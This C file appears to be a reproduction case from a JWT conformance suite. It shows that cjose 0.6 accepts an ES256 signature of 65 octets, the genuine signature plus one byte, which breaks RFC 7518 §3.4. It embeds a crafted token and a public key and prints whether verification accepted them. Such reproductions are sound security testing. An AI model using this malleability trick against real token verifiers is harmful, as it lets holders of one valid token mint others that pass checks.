/* cjose 0.6 accepts an ES256 signature of 65 octets: the genuine 64-octet signature with one
 * byte appended verifies, because cjose_jws_verify splits whatever it gets in two halves of
 * sig_len / 2 octets and never checks that the length is 64. Anyone holding a valid token can
 * mint other byte strings that verify (signature malleability).
 *
 * RFC 7518 §3.4: "1. The JWS Signature value MUST be a 64-octet sequence. If it is not a
 * 64-octet sequence, the validation has failed." (RFC7518-3.4-es256)
 *
 * Reproduces: signature/length-65 (forgery)
 *
 * cjose is configured exactly as the jwt-conformance adapter does (adapters/cjose/adapter.c):
 * cjose_jws_import on the token, cjose_jwk_import of the key set's only JWK (kid "primary"),
 * cjose_jws_verify. cjose verifies signatures only: no issuer, audience, clock or algorithm
 * setting exists (the vector's profile: issuer https://issuer.example, audience
 * https://api.example, now 1700000000).
 *
 * Run (Debian libcjose-dev installed): bash scripts/setup/c.sh && adapters/cjose/bin/repro
 * or: gcc -o repro adapters/cjose/repro.c $(pkg-config --cflags --libs cjose) && ./repro
 */
#include <stdio.h>
#include <string.h>

#include <cjose/cjose.h>

static const char TOKEN[] =
    "eyJhbGciOiJFUzI1NiIsImtpZCI6InByaW1hcnkiLCJ0eXAiOiJhdCtqd3QifQ.eyJhdWQiOiJodHRwczovL2FwaS5leGFtcGxlIiwiY2xp"
    "ZW50X2lkIjoiY2xpZW50LTEiLCJleHAiOjQxMDI0NDQ4MDAsImlhdCI6MTAwMDAwMDAwMCwiaXNzIjoiaHR0cHM6Ly9pc3N1ZXIuZXhhbXBs"
    "ZSIsImp0aSI6Imp0aS0wMDAxIiwic3ViIjoiMDFIWlkySjNLNE01TjZQN1E4UjlTMFQxVjIifQ.t072FQDotxPJq4G8dWw3aCFZzbzcHWZ2"
    "t5b5cvBzxwJbE23ZBIwCNiRbtw7CV3wMEzPAa08MELAI6WQSukLDBbc";
static const char JWK[] =
    "{\"alg\":\"ES256\",\"crv\":\"P-256\",\"kid\":\"primary\",\"kty\":\"EC\",\"use\":\"sig\","
    "\"x\":\"Og9O0oqYw6X3WZLhErumXMqF78CgL9XjmicCJocZZuE\",\"y\":\"opzBMqY9ArX-OUzNW0byqx80JQiwyIPRTydjBdHDLEI\"}";

int main(void)
{
    cjose_err err = {0};
    cjose_jwk_t *jwk = cjose_jwk_import(JWK, strlen(JWK), &err);
    cjose_jws_t *jws = jwk ? cjose_jws_import(TOKEN, strlen(TOKEN), &err) : NULL;
    int accepted = jws && cjose_jws_verify(jws, jwk, &err);
    if (accepted)
        printf("REPRODUCED signature/length-65: cjose_jws_verify accepted a 65-octet ES256 signature "
               "(the genuine one plus a byte)\n");
    else
        printf("NOT REPRODUCED signature/length-65: cjose refused it (%s)\n",
               err.message ? err.message : "no error message");
    cjose_jws_release(jws);
    cjose_jwk_release(jwk);
    return accepted ? 0 : 1;
}
